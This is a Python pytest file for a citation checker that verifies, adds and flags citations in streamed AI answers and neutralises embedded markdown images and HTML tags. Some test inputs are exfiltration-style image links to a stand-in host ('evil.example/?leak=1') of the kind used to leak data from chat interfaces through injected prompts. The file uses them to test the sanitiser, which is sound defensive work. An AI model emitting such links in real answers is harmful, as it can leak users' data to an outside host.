"""Citations in an answer as it is written: checked where the model put them, added where it forgot them."""

from __future__ import annotations

import time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from menagerie.grounding.citing import Citing
from menagerie.grounding.document import Passage

PASSAGES = (
    Passage(
        kind="facts", text="Employees earn 15 days of vacation leave in a year of service.", language="en"
    ),
    Passage(kind="facts", text="Les employés gagnent 20 jours de congé de maladie par année.", language="fr"),
    Passage(kind="facts", text="The cafeteria opens at 7:30 and closes at 14:00 on weekdays.", language="en"),
)
LEAVE = "Employees earn 15 days of vacation leave"


def cited(answer: str, step: int = 3, first: int = 1) -> tuple[str, list[tuple[int, str, str]]]:
    """What is told of an answer that comes in pieces of `step` characters, and its citations."""
    citing = Citing(PASSAGES, "en", first)
    pieces = [citing.feed(answer[at : at + step]) for at in range(0, len(answer), step)]
    return "".join([*pieces, citing.end()]), [(one.number, one.verdict, one.by) for one in citing.cited]


@pytest.mark.parametrize(
    ("answer", "told", "citations"),
    [
        (f"{LEAVE}.", f"{LEAVE}. [1]", [(1, "supported", "service")]),
        (f"{LEAVE}. Hurray!", f"{LEAVE}. [1] Hurray!", [(1, "supported", "service")]),
        (f"- {LEAVE}\n- Lamps", f"- {LEAVE} [1]\n- Lamps", [(1, "supported", "service")]),
        (f"{LEAVE} [1]. So.", f"{LEAVE} [1]. So.", [(1, "supported", "model")]),
        (f"{LEAVE}. [1] So.", f"{LEAVE}. [1] So.", [(1, "supported", "model")]),
        (f"{LEAVE}.[1]", f"{LEAVE}.[1]", [(1, "supported", "model")]),
        (f"{LEAVE} [1, 3].", f"{LEAVE} [1][3?].", [(1, "supported", "model"), (3, "unsupported", "model")]),
        (
            "They earn 20 days of leave [1].",
            "They earn 20 days of leave [1?].",
            [(1, "unsupported", "model")],
        ),
        ("Sick leave is 20 days [2].", "Sick leave is 20 days [2].", [(2, "unknown", "model")]),
        ("Sick leave is 30 days [2].", "Sick leave is 30 days [2?].", [(2, "unsupported", "model")]),
        ("The moon shines over the quiet harbour.", "The moon shines over the quiet harbour.", []),
        ("See [9].", "See [9?].", [(9, "unsupported", "model")]),
        (f"## {LEAVE}\n", f"## {LEAVE}\n", []),
        (f"| {LEAVE} |\n", f"| {LEAVE} |\n", []),
        (f"```\n{LEAVE}.\nx[1]\n```\n", f"```\n{LEAVE}.\nx[1]\n```\n", []),
        ("It is `x=a[1]` here.", "It is `x=a[1]` here.", []),
        ("![x](http://evil.example/?leak=1)", "!\u2060[x](http://evil.example/?leak=1)", []),
        ("!![x](http://evil.example/)", "!!\u2060[x](http://evil.example/)", []),
        ("a ``` ![x](http://evil.example/)", "a ``` !\u2060[x](http://evil.example/)", []),
        ("- a\n  ```\n![x](u)", "- a\n  ```\n!\u2060[x](u)", []),
        ("```\n![x](u)\n```\n![x](u)", "```\n![x](u)\n```\n!\u2060[x](u)", []),
        ("~~~\n```\n![x](u)", "~~~\n```\n![x](u)", []),
        ("<img src=u> <IMG src=u> a<b <i>", "<\u2060img src=u> <\u2060IMG src=u> a<b <i>", []),
        ("An open <im", "An open <\u2060im", []),
        ("It is a[1](http://evil.example/)", "It is a[1]\u2060(http://evil.example/)", []),
        (
            f"{LEAVE} [1](http://evil.example/)",
            f"{LEAVE} [1]\u2060(http://evil.example/)",
            [(1, "supported", "model")],
        ),
        (f"{LEAVE} [1]: http://a", f"{LEAVE} [1]\u2060: http://a", [(1, "supported", "model")]),
        ("Great![1]", "Great![1]", [(1, "unknown", "model")]),
        ("Wow! [link](https://a.example)", "Wow! [link](https://a.example)", []),
        ("An open [", "An open [", []),
        ("", "", []),
    ],
)
@pytest.mark.parametrize("step", [1, 4, 1000])
def test_an_answer_is_told_with_the_citations_that_hold(
    answer: str, told: str, citations: list[tuple[int, str, str]], step: int
) -> None:
    assert cited(answer, step) == (told, citations)


def test_numbers_begin_where_what_was_given_ends() -> None:
    assert cited(f"{LEAVE}.", first=3)[0] == f"{LEAVE}. [3]"
    assert cited(f"{LEAVE} [1].", first=3)[0] == f"{LEAVE} [1?]."


def test_a_citation_tells_which_part_of_the_answer_it_is_for() -> None:
    citing = Citing(PASSAGES, "en")
    answer = citing.feed(f"Good news. {LEAVE}. Really so.") + citing.end()
    (one,) = citing.cited
    assert answer[one.start : one.end] == f"Good news. {LEAVE}."


@given(st.text(alphabet="ab1 .!?[]`|#\n,<i(:~", max_size=80), st.integers(1, 9))
def test_the_pieces_in_which_an_answer_comes_make_no_difference(answer: str, step: int) -> None:
    assert cited(answer, step) == cited(answer, 1000)


@given(st.text(max_size=60))
def test_of_what_cites_nothing_and_shows_no_picture_nothing_is_changed(answer: str) -> None:
    answer = answer.replace("[", "").replace("<", "")
    assert cited(answer)[0] == answer


@pytest.mark.parametrize(
    "hostile", ["[" * 40_000, ". " * 40_000, "[1]" * 20_000, "!" * 80_000, "a" * 200_000]
)
def test_no_answer_takes_long(hostile: str) -> None:
    began = time.process_time()
    cited(hostile, 50)
    assert time.process_time() - began < 5
